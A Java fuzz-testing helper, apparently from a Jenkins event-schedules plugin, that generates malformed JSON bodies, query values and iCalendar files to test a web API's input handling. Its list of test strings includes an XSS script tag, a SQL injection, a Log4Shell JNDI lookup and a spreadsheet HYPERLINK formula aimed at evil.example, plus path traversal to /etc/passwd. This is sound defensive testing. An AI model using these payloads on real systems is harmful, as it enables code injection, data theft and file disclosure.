package io.jenkins.plugins.eventschedules.web;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Good bodies, spoiled: some so little that they are still taken, some beyond what is JSON. */
final class HostileValues {

    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\nb\r\nX-Injected: 1",
            "\u202Egnp.exe",
            "\uFEFF",
            "\uFFFE\uFDD0",
            "\uD83D\uDE00".repeat(60),
            "\u0130\u0131\u00DF\uFB01",
            "e\u0301".repeat(200),
            "x".repeat(101),
            "x".repeat(70_000),
            "<script>alert(1)</script>",
            "'; DROP TABLE events; --",
            "%' ESCAPE '\\",
            "=HYPERLINK(\"http://evil.example\")",
            "${jndi:ldap://evil.example/a}",
            "{{resolve:ssm:/x}}",
            "{{ automation:EXECUTION_ID }}",
            "../../etc/passwd",
            "..",
            "arn:aws:iam::123456789012:role/Admin",
            "a".repeat(40) + "!",
            "null",
            "0",
            "-1",
            "1e400",
            "9223372036854775808",
            "2026-12-01",
            "2026-02-30T10:00:00Z",
            "2026-12-31T23:59:60Z",
            "2026-12-01T24:00:00",
            "2026-12-01T18:00:00+99:00",
            "2026-12-01T18:00:00-18:00",
            "2026-12-01T18:00:00.0000000001Z",
            "2027-03-28T02:30",
            "2026-10-25T02:30",
            "+999999999-12-31T23:59:59.999999999Z",
            "-999999999-01-01T00:00:00Z",
            "+1000000000-12-31T23:59:59Z",
            "0000-01-01T00:00:00Z",
            "\u0662\u0660\u0662\u0666-12-01T18:00:00Z",
            "PT9223372036854775807S",
            "-PT9223372036854775808S",
            "P106751991167300D",
            "PT0S",
            "P1Y",
            "PT1.5H",
            "GMT+18",
            "UTC+25:00",
            "Z",
            "+18:00",
            "Etc/GMT+12",
            "Europe/Paris",
            "europe/paris",
            "Pacific/Apia",
            "SystemV/../Paris",
            "Europe/" + "P".repeat(500),
            "FREQ=SECONDLY;COUNT=1000000000",
            "FREQ=DAILY;COUNT=1000000000",
            "FREQ=DAILY;INTERVAL=2147483648;COUNT=3",
            "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30;UNTIL=99991231",
            "FREQ=DAILY;UNTIL=20270131",
            "automation",
            "product",
            "scale-ecs-service",
            "db-password",
            "high",
            "01KAR3Z5T0Q9V7M2N4B6C8D0EF");

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    /** What no tree of JSON can hold is put in afterwards. */
    private static final String HALF = "@half@";

    private static final String HUGE = "@huge@";

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    String text() {
        return pick(TEXTS);
    }

    <T> T pick(List<T> some) {
        return some.get(random.nextInt(some.size()));
    }

    boolean sometimes(int oneIn) {
        return random.nextInt(oneIn) == 0;
    }

    /** A body for this one, in bytes: with up to three values changed, and now and then a few bytes. */
    byte[] spoiled(JsonNode good) {
        JsonNode tree = good.deepCopy();
        for (int i = random.nextInt(4); i > 0; i--) {
            tree = changed(tree);
        }
        String text = tree.toString().replace(HALF, "\\ud800").replace('"' + HUGE + '"', "1e999999999");
        return bytes(text);
    }

    /** A text that is no JSON. */
    byte[] bytes(String good) {
        byte[] bytes = good.getBytes(java.nio.charset.StandardCharsets.UTF_8);
        if (bytes.length > 0 && sometimes(4)) {
            for (int i = random.nextInt(3); i >= 0; i--) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
            }
        }
        return sometimes(20) ? java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length + 1)) : bytes;
    }

    /** A value of a query, percent-encoded, and not always UTF-8. */
    String query(String name) {
        String good =
                switch (name) {
                    case "from" -> "2026-12-01T00:00:00Z";
                    case "to" -> "2026-12-02T00:00:00Z";
                    case "limit", "revision", "after" -> "1";
                    case "status" -> "live,ended";
                    case "sort" -> "-start";
                    default -> text();
                };
        String text = sometimes(2) ? good : text();
        String shorter = text.length() > 3_000 ? text.substring(0, 3_000) : text;
        return sometimes(20) ? "%FF%C0%80" : HostileRequestsTest.encode(shorter);
    }

    /** A calendar of two appointments, with lines changed, twice, or gone. */
    byte[] calendar() {
        List<String> lines = new ArrayList<>(List.of(
                "BEGIN:VCALENDAR",
                "VERSION:2.0",
                "BEGIN:VTIMEZONE",
                "TZID:Own",
                "BEGIN:STANDARD",
                "DTSTART:19700101T000000",
                "TZOFFSETFROM:+0100",
                "TZOFFSETTO:+0100",
                "END:STANDARD",
                "END:VTIMEZONE",
                "BEGIN:VEVENT",
                "UID:1",
                "SUMMARY:Cup final",
                "DTSTART;TZID=Europe/Paris:20261201T190000",
                "DTEND;TZID=Own:20261201T230000",
                "END:VEVENT",
                "BEGIN:VEVENT",
                "SUMMARY:Sale",
                "DTSTART;VALUE=DATE:20261205",
                "DURATION:P1D",
                "RRULE:FREQ=WEEKLY;COUNT=3",
                "EXDATE;VALUE=DATE:20261212",
                "END:VEVENT",
                "END:VCALENDAR"));
        for (int i = random.nextInt(5); i > 0; i--) {
            int place = random.nextInt(lines.size());
            switch (random.nextInt(6)) {
                case 0 -> lines.remove(place);
                case 1 -> lines.add(place, lines.get(random.nextInt(lines.size())));
                case 2 -> lines.set(place, lines.get(place).replaceFirst(":.*", ":") + text());
                case 3 -> lines.add(place, "EXDATE:" + "20261212T190000,".repeat(5_000) + "20261219T190000");
                case 4 -> lines.add(place, "X-" + text() + ";A=\"" + text() + "\":" + text());
                default -> lines.addAll(place, java.util.Collections.nCopies(300, "BEGIN:VEVENT"));
            }
        }
        return bytes(String.join("\r\n", lines) + "\r\n");
    }

    private JsonNode changed(JsonNode tree) {
        List<JsonNode> places = new ArrayList<>();
        collect(tree, places);
        if (places.isEmpty()) {
            return value(0);
        }
        JsonNode place = pick(places);
        if (place instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            if (names.isEmpty() || sometimes(6)) {
                object.set(text(), value(0));
            } else if (sometimes(6)) {
                object.remove(pick(names));
            } else {
                object.set(pick(names), value(0));
            }
        } else if (place instanceof ArrayNode array) {
            array.add(value(0));
        }
        return sometimes(30) ? value(0) : tree;
    }

    private static void collect(JsonNode node, List<JsonNode> places) {
        if (node.isContainerNode()) {
            places.add(node);
            node.forEach(child -> collect(child, places));
        }
    }

    private JsonNode value(int depth) {
        return switch (random.nextInt(depth > 2 ? 8 : 12)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 ->
                pick(List.<JsonNode>of(
                        JSON.numberNode(0),
                        JSON.numberNode(-1),
                        JSON.numberNode(1),
                        JSON.numberNode(2),
                        JSON.numberNode(Long.MAX_VALUE),
                        JSON.numberNode(Long.MIN_VALUE),
                        JSON.numberNode(1e308),
                        JSON.numberNode(new BigDecimal("0.1000000000000000000000000000000000000001")),
                        JSON.textNode(HUGE)));
            case 3 -> JSON.textNode(HALF);
            case 4, 5, 6, 7 -> JSON.textNode(text());
            case 8 -> object(depth);
            case 9 -> list(depth);
            case 10 -> deep();
            default ->
                JSON.arrayNode().addAll(java.util.Collections.nCopies(2000, JSON.textNode(pick(TEXTS.subList(0, 3)))));
        };
    }

    private ObjectNode object(int depth) {
        ObjectNode object = JSON.objectNode();
        for (int i = random.nextInt(4); i > 0; i--) {
            object.set(text(), value(depth + 1));
        }
        return object;
    }

    private ArrayNode list(int depth) {
        ArrayNode list = JSON.arrayNode();
        for (int i = random.nextInt(4); i > 0; i--) {
            list.add(value(depth + 1));
        }
        return list;
    }

    private JsonNode deep() {
        JsonNode node = JSON.textNode("x");
        for (int i = 5 + random.nextInt(60); i > 0; i--) {
            node = random.nextBoolean()
                    ? JSON.arrayNode().add(node)
                    : JSON.objectNode().set("a", node);
        }
        return node;
    }
}
